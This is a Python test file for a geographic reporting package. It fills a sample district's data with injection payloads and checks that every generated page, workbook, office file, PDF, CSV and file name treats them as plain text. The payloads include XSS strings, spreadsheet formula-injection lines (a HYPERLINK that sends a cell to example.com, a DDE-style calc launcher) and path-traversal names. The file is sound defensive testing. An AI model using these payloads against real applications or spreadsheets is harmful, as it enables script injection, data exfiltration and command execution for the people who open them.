"""Every text that comes from data, in every output: a name stays a name on the page, in the workbook and in the file system."""

from __future__ import annotations

import csv
import importlib
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from types import MappingProxyType
from typing import Any

import openpyxl
import pandas as pd
import pypdf
import pytest
from ink import texts_of

import xinhe_geo as xh
from xinhe_geo import maps
from xinhe_geo.access.headlines import headlines
from xinhe_geo.core.schema import LAYERS
from xinhe_geo.maps.meeting import meeting
from xinhe_geo.report.pages import plans
from xinhe_geo.report.paper.page import png_bytes
from xinhe_geo.report.paper.sheet import file_name
from xinhe_geo.report.paper.slides import slides
from xinhe_geo.report.paper.word import write_brief

edition = importlib.import_module("xinhe_geo.report.paper.public")

_atlas = importlib.import_module("xinhe_geo.report.paper.atlas")

TOY = Path(__file__).parents[1] / "toy"
#: Each would set `window.pwned` if a page took it for markup or code, or compute something if a sheet took it for a formula.
PAYLOADS = (
    "<img src=x onerror=\"window.pwned='img'\">",
    "</script><script>window.pwned='script'</script>",
    "'\"><svg onload=\"window.pwned='svg'\">",
    "${window.pwned='template'}`\\\u2028<!--]]>&lt;{{7*7}}",
    '=HYPERLINK("http://example.com/?"&A1,"点我")',
    "+1+1|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "../../旁边<b>\r\n-2+3",
)
#: What a column may hold is fixed, or it refers to something: a payload there is refused at the door.
CODED = {c.name for layer in LAYERS.values() for c in layer.columns if c.values or c.parent or c.type != "text"}
#: Codes that nothing but their reader lists, and text that is set beside a number.
CODED |= {"also_rules", "class", "codes", "colour", "decay", "kind", "kinds", "near_kinds", "needs", "not_tags"}
CODED |= {
    "other_codes",
    "other_layer",
    "series",
    "set",
    "spatial_unit",
    "tags",
    "target",
    "target_series",
    "touches",
    "unit",
}


def payload(i: int) -> str:
    return f"{PAYLOADS[i % len(PAYLOADS)]} {i}"


def poisoned(district: xh.District) -> xh.District:
    """Return the district with a payload in every free text, and as the id of every home, facility and community."""
    rows: dict[str, pd.DataFrame] = {}
    ids = {
        key: {old: payload(i) for i, old in enumerate(district.rows[layer].index)}
        for key, layer in (("home", "homes"), ("community", "communities"), ("facility", "facilities"))
    }
    for layer, clean in district.rows.items():
        frame = clean.copy()
        for column in frame.columns:
            if column in ids and column in frame:
                frame[column] = pd.array([ids[column].get(v, v) for v in frame[column]], dtype="object")
            elif column not in CODED | {"geometry"} and frame[column].dtype.kind not in "ifbuM" and len(frame):
                frame[column] = pd.array([payload(i + len(column)) for i in range(len(frame))], dtype="str")
        if frame.index.name in ids:
            frame.index = pd.Index([ids[str(frame.index.name)][v] for v in frame.index], name=frame.index.name)
        rows[layer] = frame
    layers = {
        name: {**entry, "source": PAYLOADS[0], "licence": PAYLOADS[1]}
        for name, entry in district.manifest["layers"].items()
    }
    manifest = {
        **district.manifest,
        "name": PAYLOADS[0],
        "credit": PAYLOADS[1],
        "made_by": PAYLOADS[2],
        "layers": layers,
    }
    return replace(district.with_rows(rows, scenario=PAYLOADS[3]), manifest=MappingProxyType(manifest))


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with everything that is written about the poisoned district."""
    folder = tmp_path_factory.mktemp("poisoned")
    district = poisoned(xh.District.load(TOY))
    later = district.with_rows(
        {**district.rows, "facilities": district.rows["facilities"].iloc[1:]}, scenario=PAYLOADS[3]
    )
    xh.brief(district, folder / "report")
    more = folder / "more"
    more.mkdir()
    for name, drawn in {
        "walkers": maps.walkers(district, "plan_clinic_15"),
        "difference": maps.difference(maps.Comparison(district, later)),
        "swipe": maps.swipe(maps.Comparison(district, later), "plan_clinic_15", sides=(PAYLOADS[1], PAYLOADS[3])),
    }.items():
        drawn.write(more / f"{name}.html")
        drawn.write(more / f"{name}.svg")
    (more / "meeting.html").write_text(meeting(district), "utf-8")
    printed(district, folder / "printed")
    return folder


def printed(district: xh.District, folder: Path) -> None:
    """Write everything that goes on paper or to office programs."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(
            png_bytes, "__defaults__", (50,)
        )  # what pictures carry beside their dots does not depend on how many
        for lang in ("zh", "en"):
            xh.sheet(district, "gaps", folder / f"gaps-{lang}", size="A4", lang=lang)
        _atlas.atlas(district, folder, form=_atlas.Format("A4"), figures=True)
    write_brief(district, folder / "brief.docx")
    slides(district, folder / "slides.pptx")
    edition.public(
        district, folder / "public", rules=["plan_clinic_15"], size="A4", approval=PAYLOADS[0], contact=PAYLOADS[1]
    )
    plans.write_table(folder / "table.csv", district, PAYLOADS[4], headlines(district, xh.coverage(district)))


@pytest.mark.slow
@pytest.mark.browser
def test_no_page_takes_data_for_markup_or_code(chromium: Any, written: Path) -> None:
    pages = sorted([*written.rglob("*.html"), *written.rglob("*.svg")])
    assert len(pages) > 10
    page = chromium.new_page(viewport={"width": 1366, "height": 768}, offline=True)
    requests: list[str] = []
    messages: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("console", lambda message: messages.append(message.text))
    page.on("pageerror", lambda error: messages.append(str(error)))
    for file in pages:
        requests.clear()
        messages.clear()
        page.goto(file.as_uri())
        page.wait_for_timeout(250)
        assert page.evaluate("window.pwned") is None, file.name
        assert page.evaluate("document.querySelectorAll('img[src=x], svg[onload], [onerror]').length") == 0, file.name
        assert requests == [file.as_uri()] and not messages, (file.name, requests, messages)
        if file.name in ("index.html", "walkers.svg", "difference.svg"):
            assert "onerror=" in page.evaluate("document.documentElement.textContent"), "the name is there, as text"
        if file.suffix == ".html":
            policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content") or ""
            assert "default-src 'none'" in policy and "unsafe-inline" not in policy, file.name
    page.close()


#: Sums that a workbook shows are live: of a column of its own sheet, and of nothing that was typed.
OUR_SUM = re.compile(r"=(SUM|COUNTA|COUNTIF)\([A-Z]+\d+:[A-Z]+\d+(,\">=1\")?\)")


@pytest.mark.slow
def test_no_cell_is_a_formula_and_no_file_left_its_folder(written: Path) -> None:
    books = sorted(written.rglob("*.xlsx"))
    assert books
    cells = [
        cell
        for book in books
        for sheet in openpyxl.load_workbook(book)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value
    ]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    for cell in cells:
        assert cell.data_type != "f" or OUR_SUM.fullmatch(str(cell.value)), cell.value
        assert cell.hyperlink is None or "example.com" not in str(cell.hyperlink.target), cell.value
    names = {p.name for p in written.parent.iterdir()}
    assert not [n for n in names if "旁边" in n or "<" in n]
    assert not [
        p
        for p in written.rglob("*")
        if "<" in p.name or ("旁边" in p.name and p.parent.name not in ("figures", "public"))
    ]


def parts_of(document: bytes, name: str) -> Iterator[tuple[str, bytes]]:
    """Yield the files inside an office document, and those of the workbooks inside it."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        for entry in archive.namelist():
            content = archive.read(entry)
            if entry.endswith((".xlsx", ".docx", ".pptx")):
                yield from parts_of(content, f"{name}/{entry}")
            else:
                yield f"{name}/{entry}", content


@pytest.mark.slow
def test_office_documents_hold_names_as_text(written: Path) -> None:
    for name in ("brief.docx", "slides.pptx"):
        said, fields, charts = [], set(), 0
        for part, content in parts_of((written / "printed" / name).read_bytes(), name):
            if not part.endswith((".xml", ".rels")):
                continue
            assert b"<!DOCTYPE" not in content and b"<!ENTITY" not in content, part
            root = ET.fromstring(content)
            said.append("".join(root.itertext()))
            for element in root.iter():
                kind = element.tag.rpartition("}")[2]
                assert kind not in ("hlinkClick", "hyperlink", "oleObj", "control"), (part, kind)
                assert kind != "f" or "/xl/" not in part, (part, element.text)
                assert element.get("TargetMode") != "External", part
                if kind == "instrText":
                    fields.add((element.text or "").strip())
            charts += "chart" in part and part.endswith(".xml")
        assert 'onerror="window.pwned' in "".join(said) and "=HYPERLINK(" in "".join(said), name
        assert fields <= {"PAGE", "NUMPAGES"}, name
        assert charts or name.endswith(".docx")


@pytest.mark.slow
def test_paper_holds_names_as_ink(written: Path) -> None:
    files = sorted(written.rglob("*.pdf"))
    assert {f.name for f in files} >= {"gaps-zh.pdf", "gaps-en.pdf", "图册.pdf"} and len(files) > 5
    for file in files:
        reader = pypdf.PdfReader(file)
        for word in (b"/JavaScript", b"/JS", b"/URI", b"/Launch", b"/OpenAction", b"/AA", b"/EmbeddedFile"):
            assert word + b" " not in file.read_bytes(), (file.name, word)
        assert reader.xmp_metadata is None and not reader.attachments
        assert not any(page.annotations for page in reader.pages), file.name
        assert "window.pwned" in "".join(texts_of(file)), file.name
    pictures = sorted(written.rglob("*.png"))
    assert len(pictures) > 10
    for file in pictures:
        content, chunks, at = file.read_bytes(), set(), 8
        while at < len(content):
            chunks.add(content[at + 4 : at + 8])
            at += 12 + int.from_bytes(content[at : at + 4], "big")
        assert chunks == {b"IHDR", b"pHYs", b"IDAT", b"IEND"}, (file.name, chunks)


@pytest.mark.slow
def test_no_cell_of_a_table_begins_like_a_formula(written: Path) -> None:
    text = (written / "printed" / "table.csv").read_text("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not [c for c in cells if re.match(r"[=+@\t\r]|-(?![\d.]+$)", c)]


@pytest.mark.slow
def test_file_names_are_safe_on_every_system(written: Path) -> None:
    names = [p.name for p in written.rglob("*")]
    assert any("onerror" in name for name in names), "a name from the data, made safe"
    for name in set(names) - {".xinhe.json"}:  # what a folder notes of itself is hidden on purpose
        assert re.fullmatch(r"[^<>:\"/\\|?*%$`\s\x00-\x1f]{1,80}", name) and not re.match(r"[-.=+@~]", name), name
        assert len(name.encode()) < 250


@pytest.mark.parametrize(
    "text", [*PAYLOADS, "CON", "nul.txt", "com1", "...", "-rf", "~root", "长" * 300, "", "a/../../b"]
)
def test_any_text_becomes_a_file_name(text: str) -> None:
    name = file_name(text)
    assert name and not re.search(r'[<>:"/\\|?*%$`\s\x00-\x1f]', name) and name[0] not in "-.=+@~"
    assert len(name.encode()) <= 185 and name.split(".")[0].upper() not in {"CON", "NUL", "COM1"}
    assert ".." not in name
